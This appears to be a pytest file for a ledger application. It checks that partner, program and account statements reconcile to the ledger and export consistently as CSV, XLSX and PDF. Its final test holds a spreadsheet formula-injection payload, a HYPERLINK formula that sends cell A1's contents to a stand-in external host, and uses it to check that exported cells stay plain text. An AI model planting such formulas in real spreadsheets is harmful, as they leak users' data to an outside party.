"""Statements for a partner, a program or an account: they reconcile to the cent with the ledger,
show the books as of a moment, name each movement's business object, and come out as CSV, XLSX
and PDF files that say the same. On SQLite and PostgreSQL.

The world is the API's (tests/api/test_programs_api.py) with requests, claims and payouts in
every state (add_claims_world, add_payouts_world), plus a request approved, a claim rejected, a
payout settled, an allocation reversed, a fund adjusted and co-op purchases imported.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pypdfium2
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from mdfledger import claims, exports, ledger, payouts, programs
from mdfledger.actor import Actor
from mdfledger.clock import utcnow
from mdfledger.errors import NotFound, ValidationError
from mdfledger.exports import kinds
from mdfledger.exports import statement_files as files
from mdfledger.exports import statement_rules as rules
from mdfledger.exports.statements import from_params, prepare, read_page, sections
from mdfledger.ledger import NewTransfer
from mdfledger.ledger.models import Account, Transfer
from mdfledger.programs import Fund
from tests.api.test_programs_api import World, build_world
from tests.api.test_requests_api import _user_actor, add_claims_world
from tests.payouts.test_api import add_payouts_world

SYSTEM = Actor.system("test")
AUDITOR = Actor("user", "auditor-1", "auditor")


@dataclass
class Book:
    world: World
    finance: Actor
    acme_user: Actor
    bolt_user: Actor
    start: date
    end: date

    def __getattr__(self, name: str) -> int:
        return getattr(self.world, name)

    def session(self) -> Session:
        return self.world.sessions()


@pytest.fixture
def book(
    database_url: str, tmp_path: Path, session_factory: sessionmaker[Session], actor: Actor
) -> Iterator[Book]:
    for world in build_world(database_url, tmp_path, session_factory, actor):
        world = add_payouts_world(add_claims_world(world))
        day = utcnow().date()
        with world.sessions() as session:
            finance = _user_actor(session, "finance@example.com")
            acme_user = _user_actor(session, "ada@acme.example")
            bolt_user = _user_actor(session, "bo@bolt.example")
            claims.approve_request(session, finance, world.request)
            claims.reject_claim(
                session, finance, world.claim_c, reason_code="duplicate", message="Claimed before"
            )
            payouts.mark_sent(session, finance, world.payout_settle, reference="BANK-1")
            payouts.mark_settled(session, finance, world.payout_settle)
            programs.reverse_allocation(session, finance, world.acme_allocation, reason="Wrong")
            programs.adjust_fund(session, finance, world.acme_fund, 5_000, reason="Top-up")
            csv_text = f"partner,reference,date,amount\nACME,PO-1,{day},1000.00\n"
            programs.import_purchases(
                session, finance, world.coop, csv_text.encode(), filename="p.csv"
            )
            back = f"partner,reference,date,amount\nACME,PO-1-R,{day},-200.00\n"
            programs.import_purchases(session, finance, world.coop, back.encode(), filename="r.csv")
            session.commit()
        yield Book(
            world, finance, acme_user, bolt_user, day - timedelta(days=400),
            day + timedelta(days=3000),
        )  # fmt: skip


def _partner_accounts(session: Session, partner_id: int) -> set[int]:
    return set(session.scalars(select(Account.id).where(Account.partner_id == partner_id)))


def _check_reconciles(session: Session, prepared: Any) -> int:
    """opening + movements = closing for every account, and closing = the ledger's balance as of
    the end date (every balance: posted, pending, available). Returns the lines seen."""
    seen = 0
    for section in sections(session, prepared, chunk=3):
        rows = list(section.rows)
        seen += len(rows)
        posted, pending = section.opening.posted, section.opening.pending
        for row in rows:
            posted += row.line.amount
            pending += row.line.pending_change
            assert row.line.balance == posted
        assert (posted, pending) == (section.closing.posted, section.closing.pending)
        expected = ledger.balance_as_of(session, section.account.id, on=prepared.end)
        assert section.closing == expected
        assert section.closing.available == expected.available
    return seen


# --- reconciliation ------------------------------------------------------------------------------


def test_a_partners_statement_reconciles_with_the_ledger_for_every_account(book: Book) -> None:
    with book.session() as session:
        prepared = prepare(session, AUDITOR, partner_id=book.acme, start=book.start, end=book.end)
        assert {a.id for a in prepared.accounts} == _partner_accounts(session, book.acme)
        kinds_seen = {a.kind for a in prepared.accounts}
        assert kinds_seen == {"partner_fund", "claims_payable", "payouts_in_transit", "settled"}
        assert _check_reconciles(session, prepared) > 20
        # Every account now, at the end of everything: its balance is the account's own.
        for a in prepared.accounts:
            closing = next(s for s in sections(session, prepared) if s.account.id == a.id).closing
            assert closing == ledger.balance(session, a.id)


def test_a_program_statement_shows_the_programs_own_accounts(book: Book) -> None:
    with book.session() as session:
        coop = session.get(programs.Program, book.coop)
        prepared = prepare(session, AUDITOR, program_id=book.coop, start=book.start, end=book.end)
        assert [a.id for a in prepared.accounts] == [
            coop.funding_account_id, coop.budget_account_id, coop.accrual_account_id,
            coop.expired_account_id,
        ]  # fmt: skip
        assert prepared.subject_label == "Program COOP27 (Co-op 2027)"
        _check_reconciles(session, prepared)
        budget = prepare(session, AUDITOR, program_id=book.mdf, start=book.start, end=book.end)
        _check_reconciles(session, budget)


def test_a_partner_statement_narrowed_to_one_program_and_one_account(book: Book) -> None:
    with book.session() as session:
        prepared = prepare(
            session, AUDITOR, partner_id=book.acme, program_id=book.clm, start=book.start,
            end=book.end,
        )  # fmt: skip
        assert prepared.accounts and {a.program_id for a in prepared.accounts} == {book.clm}
        assert prepared.subject_label == "Partner ACME (Acme Networks), program CLM27"
        fund = session.scalar(select(Fund.account_id).where(Fund.id == book.acme_fund))
        one = prepare(session, AUDITOR, account_id=fund, start=book.start, end=book.end)
        assert [a.id for a in one.accounts] == [fund]
        _check_reconciles(session, one)


def test_the_opening_balance_carries_everything_before_the_start(book: Book) -> None:
    with book.session() as session:
        fund = session.scalar(select(Fund.account_id).where(Fund.id == book.acme_fund))
        whole = prepare(session, AUDITOR, account_id=fund, start=book.start, end=book.end)
        [section] = sections(session, whole)
        lines = [r.line for r in section.rows]
        assert section.opening.posted == 0 and len(lines) >= 3
        day = lines[-1].effective_date
        later = prepare(session, AUDITOR, account_id=fund, start=day, end=book.end)
        [tail] = sections(session, later)
        before = [ln for ln in lines if ln.effective_date < day]
        assert tail.opening.posted == sum(ln.amount for ln in before)
        assert tail.closing == section.closing


# --- as of ---------------------------------------------------------------------------------------


def test_as_of_shows_the_books_as_they_stood_and_leaves_out_later_backdated_transfers(
    book: Book,
) -> None:
    moment = utcnow()
    with book.session() as session:
        fund = session.scalar(select(Fund).where(Fund.id == book.acme_fund))
        program = session.get(programs.Program, book.mdf)
        before = prepare(session, AUDITOR, account_id=fund.account_id, start=book.start,
                         end=book.end)  # fmt: skip
        [then] = [(s.opening, s.closing, list(s.rows)) for s in sections(session, before)]
        # Written later, dated a year back: before the statement's range even starts.
        backdated = ledger.transfer(
            session, SYSTEM,
            NewTransfer("late-fix", program.budget_account_id, fund.account_id, 777, "allocation",
                        effective_date=book.start - timedelta(days=5), ref_type="partner",
                        ref_id=str(book.acme)),
            now=moment + timedelta(seconds=1),
        )  # fmt: skip
        session.commit()
    with book.session() as session:
        as_then = prepare(session, AUDITOR, account_id=fund.account_id, start=book.start,
                          end=book.end, as_of=moment)  # fmt: skip
        assert as_then.high_water == backdated.id - 1 and as_then.as_of == moment
        [s] = sections(session, as_then)
        assert (s.opening, s.closing, list(s.rows)) == then
        assert s.closing == ledger.balance_as_of(session, fund.account_id, at=moment)
        now = prepare(session, AUDITOR, account_id=fund.account_id, start=book.start,
                      end=book.end)  # fmt: skip
        [s_now] = sections(session, now)
        assert s_now.opening.posted == then[0].posted + 777
        assert s_now.closing.posted == then[1].posted + 777
        # A moment still to come is now; a date is the end of that day (UTC).
        future = prepare(session, AUDITOR, account_id=fund.account_id, start=book.start,
                         end=book.end, as_of=moment + timedelta(days=9),
                         now=moment + timedelta(seconds=2))  # fmt: skip
        assert future.as_of == moment + timedelta(seconds=2)
        assert future.high_water == now.high_water
        yesterday = (moment - timedelta(days=1)).date()
        old = prepare(session, AUDITOR, account_id=fund.account_id, start=book.start,
                      end=book.end, as_of=yesterday.isoformat())  # fmt: skip
        assert old.high_water == 0 and old.accounts == ()  # nothing existed yet


# --- references ----------------------------------------------------------------------------------


def _labels(session: Session, actor: Actor, **subject: Any) -> dict[str, list[Any]]:
    start, end = subject.pop("start"), subject.pop("end")
    prepared = prepare(session, actor, start=start, end=end, **subject)
    found: dict[str, list[Any]] = {}
    for section in sections(session, prepared):
        for row in section.rows:
            found.setdefault(row.line.code, []).append(row.reference)
    return found


def test_each_movement_names_its_business_object_and_page(book: Book) -> None:
    with book.session() as session:
        programs.expire_funds(session, book.finance, now=utcnow() + timedelta(days=800))
        session.commit()
    with book.session() as session:
        acme = _labels(session, AUDITOR, partner_id=book.acme, start=book.start, end=book.end)
        mdf = _labels(session, AUDITOR, program_id=book.mdf, start=book.start, end=book.end)
    labels = {code: {r.label for r in refs} for code, refs in acme.items()}
    targets = {code: {r.target for r in refs} for code, refs in acme.items()}
    assert labels["allocation"] >= {"Allocation", "Reversal of allocation", "Allocation from"
                                    f" import #{book.imp}"}  # fmt: skip
    assert targets["allocation"] >= {("partner", book.acme), ("import", book.imp)}
    assert labels["allocation.adjustment"] == {"Allocation adjustment"}
    assert labels["coop.accrual"] == {"Co-op accrual, purchase PO-1"}
    assert labels["coop.return"] == {"Co-op accrual returned, purchase PO-1-R"}
    assert f"Fund request #{book.request} reserved" in labels["claim.reservation"]
    assert {f"Claim #{book.claim_a} held", f"Claim #{book.claim_c} released"} <= labels[
        "claim.reimbursement"
    ]
    assert any(label.endswith("approved") for label in labels["claim.reimbursement"])
    assert ("claim", book.claim_a) in targets["claim.reimbursement"]
    assert {f"Payout #{book.payout_settle} sent", f"Payout #{book.payout_retry} failed (sending"
            " reversed)"} <= labels["payout.send"]  # fmt: skip
    assert labels["payout.settle"] == {f"Payout #{book.payout_settle} settled"}
    assert targets["payout.settle"] == {("payout", book.payout_settle)}
    expiry = acme["fund.expiry"]
    assert {r.label.split(" from fund #")[0] for r in expiry} == {"Funds expired"}
    assert {r.target for r in expiry} == {("partner", book.acme)}  # a fund shows on its partner
    assert {r.label for r in mdf["budget.funding"]} == {"Budget funding"}
    assert {r.target for r in mdf["budget.funding"]} == {("program", book.mdf)}


@pytest.mark.parametrize(
    ("fields", "label", "target"),
    [
        (dict(code="payout.reversal", type="single", ref_type="payout", ref_id="4"),
         "Payout #4 reversed by the provider", ("payout", 4)),
        (dict(code="claim.reservation", type="expire", ref_type="fund_request", ref_id="9"),
         "Fund request #9 reservation expired", ("fund_request", 9)),
        (dict(code="claim.reimbursement", type="post", ref_type="claim", ref_id="3"),
         "Claim #3 approved", ("claim", 3)),
        (dict(code="custom.thing", type="single", ref_type="other", ref_id="x-1"),
         "custom.thing (other x-1)", None),
        (dict(code="budget.funding", type="single", ref_type=None, ref_id=None),
         "Budget funding", None),
        (dict(code="claim", type="single", ref_type="claim", ref_id="not-a-number"),
         "claim (claim not-a-number)", None),
    ],
)  # fmt: skip
def test_reference_rules(fields: dict[str, Any], label: str, target: Any) -> None:
    ref = rules.reference(reverses_id=None, **fields)
    assert (ref.label, ref.target) == (label, target)


# --- scope and bad input -------------------------------------------------------------------------


def test_partners_read_only_their_own_statement(book: Book) -> None:
    with book.session() as session:
        mine = prepare(session, book.acme_user, start=book.start, end=book.end)
        assert (mine.subject_type, mine.subject_id) == ("partner", book.acme)
        narrowed = prepare(
            session, book.acme_user, program_id=book.clm, start=book.start, end=book.end
        )
        assert narrowed.subject_id == book.acme and narrowed.program_id == book.clm
        bolt_account = min(_partner_accounts(session, book.bolt))
        for subject in ({"partner_id": book.bolt}, {"account_id": bolt_account}):
            with pytest.raises(NotFound):
                prepare(session, book.acme_user, start=book.start, end=book.end, **subject)
        with pytest.raises(NotFound):  # the program's own accounts: not a partner's
            mdf = session.get(programs.Program, book.mdf)
            prepare(session, book.acme_user, account_id=mdf.budget_account_id, start=book.start,
                    end=book.end)  # fmt: skip
        statement = kinds.kind("statement")
        with pytest.raises(NotFound):
            statement.check(
                session,
                book.acme_user,
                {"partner_id": str(book.bolt), "start": "2026-01-01", "end": "2026-01-31"},
            )
        checked = statement.check(
            session, book.acme_user, {"start": "2026-01-01", "end": "2026-01-31"}
        )
        assert checked["partner_id"] == book.acme and checked["as_of"]


@pytest.mark.parametrize(
    ("params", "field", "words"),
    [
        ({"start": "2026-03-31", "end": "2026-03-01"}, "start", "after it ends"),
        ({"start": "2026-13-01", "end": "2026-03-01"}, "start", "a date such as"),
        ({"start": "2010-01-01", "end": "2026-03-01"}, "end", "at most 3660 days"),
        ({"start": "2026-01-01", "end": "2026-03-01", "as_of": "soon"}, "as_of", "not a date"),
        ({"start": "2026-01-01", "end": "2026-03-01", "partner_id": "x"}, "partner_id", "whole"),
        ({"start": "2026-01-01", "end": "2026-03-01"}, "partner_id", "choose a partner"),
        ({"start": "2026-01-01", "end": "2026-03-01", "account_id": 1, "program_id": 1},
         "account_id", "not both"),
    ],
)  # fmt: skip
def test_bad_questions_are_refused_with_the_field_and_why(
    session: Session, params: dict[str, Any], field: str, words: str
) -> None:
    with pytest.raises(ValidationError) as refused:
        from_params(session, AUDITOR, params)
    assert refused.value.details["field"] == field
    assert words in refused.value.message


def test_unknown_subjects_are_not_found(session: Session) -> None:
    for subject in ({"partner_id": 999}, {"program_id": 999}, {"account_id": 99999}):
        with pytest.raises(NotFound):
            prepare(session, AUDITOR, start=date(2026, 1, 1), end=date(2026, 2, 1), **subject)


# --- pages ---------------------------------------------------------------------------------------


def test_pages_continue_exactly_across_accounts_and_writes_in_between(book: Book) -> None:
    with book.session() as session:
        prepared = prepare(session, AUDITOR, partner_id=book.acme, start=book.start, end=book.end)
        whole = [(s.account.id, r.line) for s in sections(session, prepared) for r in list(s.rows)]
        paged: list[Any] = []
        after, pages = None, 0
        while True:
            page = read_page(session, prepared, after=after, limit=4)
            pages += 1
            for section in page.sections:
                if section.rows:
                    first = section.rows[0].line
                    assert section.brought_forward == first.balance - first.amount
                paged += [(section.account.id, r.line) for r in section.rows]
            if page.next is None:
                break
            after = page.next
            if pages == 2:  # someone writes meanwhile: later pages still show the same books
                fund = session.scalar(select(Fund.account_id).where(Fund.id == book.acme_fund))
                budget = session.get(programs.Program, book.mdf).budget_account_id
                ledger.transfer(session, SYSTEM, NewTransfer("meanwhile", budget, fund, 5,
                                "allocation", effective_date=book.start))  # fmt: skip
        assert paged == whole and pages > 2
        with pytest.raises(ValidationError, match="cursor"):
            read_page(session, prepared, after="1.2.x", limit=4)
        with pytest.raises(ValidationError, match="limit"):
            read_page(session, prepared, limit=0)


# --- files ---------------------------------------------------------------------------------------


def _csv(session: Session, params: dict[str, Any]) -> tuple[dict[str, str], list[dict[str, str]]]:
    out = io.BytesIO()
    files.write(session, AUDITOR, params, "csv", out, lambda done, total: None)
    text = out.getvalue().decode("utf-8-sig")
    head, _, table = text.partition("\r\n\r\n")
    pairs = dict(row for row in csv.reader(io.StringIO(head)))
    return pairs, list(csv.DictReader(io.StringIO(table)))


def _expected(session: Session, params: dict[str, Any]) -> list[tuple[str, int, str, str]]:
    """(record, account id, balance, reference) for every row, from the service."""
    prepared = from_params(session, AUDITOR, params)
    rows = []
    for s in sections(session, prepared):
        c = s.account.currency
        rows.append(("opening", s.account.id, rules.amount_text(s.opening.posted, c), ""))
        rows += [
            ("line", s.account.id, rules.amount_text(r.line.balance, c), r.reference.label)
            for r in s.rows
        ]
        rows.append(("closing", s.account.id, rules.amount_text(s.closing.posted, c), ""))
    return rows


def test_the_csv_states_its_question_and_every_row_exactly(book: Book) -> None:
    with book.session() as session:
        statement = kinds.kind("statement")
        params = statement.check(
            session, AUDITOR, {"partner_id": book.acme, "start": book.start, "end": book.end}
        )
        progress: list[tuple[int, int | None]] = []
        out = io.BytesIO()
        statement.write(session, AUDITOR, params, "csv", out, lambda d, t: progress.append((d, t)))
        pairs, rows = _csv(session, params)
        assert out.getvalue().decode("utf-8-sig").startswith("Statement,Partner ACME")
        assert pairs["Statement"] == "Partner ACME (Acme Networks)"
        assert (pairs["From"], pairs["To"]) == (book.start.isoformat(), book.end.isoformat())
        assert pairs["Up to transfer"] == str(from_params(session, AUDITOR, params).high_water)
        assert pairs["As of"].endswith("Z") and pairs["Generated at"].endswith("Z")
        got = [(r["record"], int(r["account_id"]), r["balance"], r["reference"]) for r in rows]
        assert got == _expected(session, params)
        lines = [r for r in rows if r["record"] == "line"]
        assert progress[0] == (0, len(lines)) and progress[-1] == (len(lines), len(lines))
        # Amounts are exact decimal strings, and each account adds up.
        for account_id in {r["account_id"] for r in rows}:
            mine = [r for r in rows if r["account_id"] == account_id]
            opening, closing = Decimal(mine[0]["balance"]), Decimal(mine[-1]["balance"])
            assert opening + sum(Decimal(r["amount"]) for r in mine[1:-1]) == closing
        assert statement.filename(params, "csv") == (
            f"statement-partner-ACME-{book.start}-{book.end}.csv"
        )


def test_the_xlsx_has_the_same_rows_with_exact_amounts(book: Book) -> None:
    with book.session() as session:
        params = kinds.kind("statement").check(
            session, AUDITOR, {"program_id": book.yen, "start": book.start, "end": book.end}
        )
        out = io.BytesIO()
        files.write(session, AUDITOR, params, "xlsx", out, lambda d, t: None)
        expected = _expected(session, params)
    sheet = load_workbook(io.BytesIO(out.getvalue()), read_only=True).active
    values = [list(row) for row in sheet.iter_rows(values_only=True)]
    head = {row[0]: row[1] for row in values[:6]}
    assert head["Statement"] == "Program JP27 (Japan 2027)"
    assert head["Up to transfer"] == params_high_water(book, params)
    columns = list(values[7])
    assert tuple(columns) == rules.COLUMNS
    table = [dict(zip(columns, row, strict=True)) for row in values[8:]]
    got = [
        (r["record"], r["account_id"], Decimal(str(r["balance"])), r["reference"] or "")
        for r in table
    ]
    assert got == [(a, b, Decimal(c), d) for a, b, c, d in expected]
    # JPY has no decimals: whole numbers, shown without a decimal point.
    funding = next(r for r in table if r["record"] == "line")
    assert funding["currency"] == "JPY" and funding["amount"] == 1_000_000


def params_high_water(book: Book, params: dict[str, Any]) -> str:
    with book.session() as session:
        return str(from_params(session, AUDITOR, params).high_water)


def test_the_pdf_says_the_same_in_words(book: Book) -> None:
    with book.session() as session:
        params = kinds.kind("statement").check(
            session, AUDITOR, {"partner_id": book.acme, "start": book.start, "end": book.end}
        )
        out = io.BytesIO()
        files.write(session, AUDITOR, params, "pdf", out, lambda d, t: None)
        prepared = from_params(session, AUDITOR, params)
        closings = [s.closing for s in sections(session, prepared)]
    document = pypdfium2.PdfDocument(out.getvalue())
    text = "\n".join(document[i].get_textpage().get_text_range() for i in range(len(document)))
    pages = len(document)
    document.close()
    assert "Statement: Partner ACME (Acme Networks)" in text
    assert f"Up to transfer {prepared.high_water}" in text.replace("\r", "")
    assert f"page {pages} of {pages}" in text
    assert f"Payout #{book.payout_settle} settled" in text
    assert "Co-op accrual, purchase PO-1" in text
    for closing in closings:
        assert rules.grouped(closing.posted, "USD") in text
    assert text.count("Closing balance") == len(closings)


# --- a hypothesis property: running balances -----------------------------------------------------


@settings(
    max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    moves=st.lists(
        st.tuples(st.integers(1, 50_000), st.integers(-20, 20), st.booleans()),
        min_size=1,
        max_size=12,
    ),
    window=st.tuples(st.integers(-25, 25), st.integers(0, 30)),
)
def test_running_balances_always_add_up(
    session: Session, moves: list[tuple[int, int, bool]], window: tuple[int, int]
) -> None:
    """Random transfers in and out of one account, on random dates, written in random order:
    every statement window reconciles, and its closing is the ledger's balance on its end."""
    tag = f"p{abs(hash((tuple(moves), window))) % 10**9}"
    base = date(2026, 6, 1)
    source = ledger.open_account(session, SYSTEM, key=f"{tag}:src", name="src", kind="funding",
                                 currency="EUR").id  # fmt: skip
    fund = ledger.open_account(session, SYSTEM, key=f"{tag}:fund", name="fund", kind="budget",
                               currency="EUR").id  # fmt: skip
    for n, (amount, offset, inward) in enumerate(moves):
        debit, credit = (source, fund) if inward else (fund, source)
        ledger.transfer(
            session,
            SYSTEM,
            NewTransfer(
                f"{tag}:{n}", debit, credit, amount, "test", effective_date=base + timedelta(offset)
            ),
        )
    start = base + timedelta(window[0])
    end = start + timedelta(window[1])
    prepared = prepare(session, SYSTEM, account_id=fund, start=start, end=end)
    _check_reconciles(session, prepared)
    session.rollback()


def test_statement_reads_leave_no_trace(book: Book) -> None:
    with book.session() as session:
        before = session.scalar(select(Transfer.id).order_by(Transfer.id.desc()).limit(1))
        for fmt in files.FORMATS:
            params = kinds.kind("statement").check(
                session, AUDITOR, {"partner_id": book.bolt, "start": book.start, "end": book.end}
            )
            files.write(session, AUDITOR, params, fmt, io.BytesIO(), lambda d, t: None)
        assert not session.new and not session.dirty
        assert session.scalar(select(Transfer.id).order_by(Transfer.id.desc()).limit(1)) == before
    assert exports.STATEMENT is kinds.kind("statement")


# --- the command ---------------------------------------------------------------------------------


def test_the_export_statement_command_writes_each_format_and_refuses_bad_input(
    book: Book, tmp_path: Path
) -> None:
    runner = book.world.app.test_cli_runner()
    dates = ["--from", book.start.isoformat(), "--to", book.end.isoformat()]
    out = tmp_path / "acme.csv"
    done = runner.invoke(
        args=["export", "statement", "--partner", "ACME", "--program", "MDF27", *dates,
              "--format", "csv", "-o", str(out)]
    )  # fmt: skip
    assert done.exit_code == 0, done.output
    assert done.output.startswith("wrote the statement of Partner ACME (Acme Networks), program")
    head, _, table = out.read_bytes().decode("utf-8-sig").partition("\r\n\r\n")
    assert dict(csv.reader(io.StringIO(head)))["Statement"] == (
        "Partner ACME (Acme Networks), program MDF27"
    )
    rows = list(csv.DictReader(io.StringIO(table)))
    assert {"Allocation", "Reversal of allocation", "Allocation adjustment"} <= {
        r["reference"] for r in rows
    }
    for fmt, magic in (("xlsx", b"PK"), ("pdf", b"%PDF")):
        done = runner.invoke(
            args=["export", "statement", "--program", "MDF27", *dates, "--format", fmt]
        )
        assert done.exit_code == 0, done.output
        assert done.stdout_bytes.startswith(magic)
    for args, message in (
        (["--partner", "NOPE"], "partner 'NOPE' not found"),
        (["--account", "1", "--partner", "ACME"], "give --account alone"),
        ([], "give --partner, --program or --account"),
        (["--partner", "ACME", "--as-of", "May"], "'May' is not a date"),
    ):
        done = runner.invoke(args=["export", "statement", *args, *dates, "--format", "csv"])
        assert done.exit_code != 0 and message in done.output, done.output
    backwards = ["--from", "2026-03-31", "--to", "2026-03-01"]
    done = runner.invoke(
        args=["export", "statement", "--partner", "ACME", *backwards, "--format", "csv"]
    )
    assert done.exit_code != 0 and "after it ends" in done.output


# --- big statements and any script ---------------------------------------------------------------


def _account_with_lines(session: Session, count: int, name: str) -> int:
    source = ledger.open_account(session, SYSTEM, key="big:src", name="Source", kind="funding",
                                 currency="USD").id  # fmt: skip
    fund = ledger.open_account(session, SYSTEM, key="big:fund", name=name, kind="budget",
                               currency="USD").id  # fmt: skip
    for first in range(0, count, 5000):
        ledger.execute(session, SYSTEM, [
            NewTransfer(f"big:{n}", source, fund, 100 + n, "budget.funding",
                        effective_date=date(2026, 1, 1) + timedelta(days=n % 300),
                        memo=f"Movement {n} ✓")
            for n in range(first, min(count, first + 5000))
        ])  # fmt: skip
    return fund


def _peak(session: Session, prepared: Any) -> tuple[int, int, bytes]:
    """(peak memory while streaming the CSV, bytes written, the last chunk)."""
    import tracemalloc

    tracemalloc.start()
    try:
        written, last = 0, b""
        for chunk in files.csv_chunks(session, prepared):
            written, last = written + len(chunk), chunk
        return tracemalloc.get_traced_memory()[1], written, last
    finally:
        tracemalloc.stop()


def test_a_long_csv_streams_in_flat_memory(session: Session) -> None:
    fund = _account_with_lines(session, 20_000, "Big fund")
    month = prepare(session, SYSTEM, account_id=fund, start=date(2026, 1, 1),
                    end=date(2026, 1, 30))  # fmt: skip
    whole = prepare(session, SYSTEM, account_id=fund, start=date(2026, 1, 1),
                    end=date(2026, 12, 31))  # fmt: skip
    _peak(session, month)  # the first run compiles and caches the queries
    small, small_written, _ = _peak(session, month)
    big, written, last = _peak(session, whole)
    assert small_written < 400_000 and written > 3_000_000  # 2,000 lines, then 20,000
    # Ten times the lines in no more memory (a chunk of rows at a time): neither the file nor
    # the lines are ever held; the 18,000 more would take several MB.
    assert big < small + 1_000_000, (small, big, written)
    closing = last.decode().strip().splitlines()[-1].split(",")
    assert closing[0] == "closing"
    assert closing[rules.COLUMNS.index("balance")] == rules.amount_text(
        sum(100 + n for n in range(20_000)), "USD"
    )


def _pdf_words(session: Session, lines: int, name: str) -> str:
    """The text of the first page of the PDF statement of an account with `lines` lines."""
    fund = _account_with_lines(session, lines, name)
    prepared = prepare(session, SYSTEM, account_id=fund, start=date(2026, 1, 1),
                       end=date(2026, 12, 31))  # fmt: skip
    out = io.BytesIO()
    files.write_pdf(session, prepared, out)
    document = pypdfium2.PdfDocument(out.getvalue())
    try:
        return document[0].get_textpage().get_text_range()
    finally:
        document.close()


def test_the_pdf_prints_any_script_with_dejavu(session: Session) -> None:
    if not (files._FONT_DIR / "DejaVuSans.ttf").is_file():
        pytest.skip("fonts-dejavu-core is not installed: the PDF falls back to Helvetica")
    words = _pdf_words(session, 3, "Łódź fund, 東京")
    assert "Łódź fund" in words and "Movement 2 ✓" in words


def test_without_dejavu_the_pdf_falls_back_to_latin_1(
    session: Session, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(files, "_FONT_DIR", tmp_path)  # no fonts here
    words = _pdf_words(session, 2, "Łódź fund, 東京")
    assert "?ód? fund, ??" in words and "Movement 1 ?" in words


def test_text_in_the_xlsx_stays_text_even_when_it_looks_like_a_formula(session: Session) -> None:
    formula = '=HYPERLINK("https://example.invalid/?x="&A1,"Open")'
    account = ledger.open_account(
        session, SYSTEM, key="f:src", name="=1+1", kind="funding", currency="USD"
    ).id
    budget = ledger.open_account(
        session, SYSTEM, key="f:b", name="Budget", kind="budget", currency="USD"
    ).id
    ledger.execute(
        session, SYSTEM,
        [NewTransfer("f:1", account, budget, 100, "budget.funding", memo=formula,
                     effective_date=date(2026, 1, 1))],
    )  # fmt: skip
    params = kinds.kind("statement").check(
        session, AUDITOR, {"account_id": budget, "start": "2026-01-01", "end": "2026-12-31"}
    )
    out = io.BytesIO()
    files.write(session, AUDITOR, params, "xlsx", out, lambda d, t: None)
    book = load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for row in book.active.iter_rows() for c in row if isinstance(c.value, str)]
    assert formula in [c.value for c in cells]
    assert any("=1+1" in c.value for c in cells)  # the account's name, as the counterpart
    assert all(c.data_type == "s" for c in cells)  # none is a formula ("f")
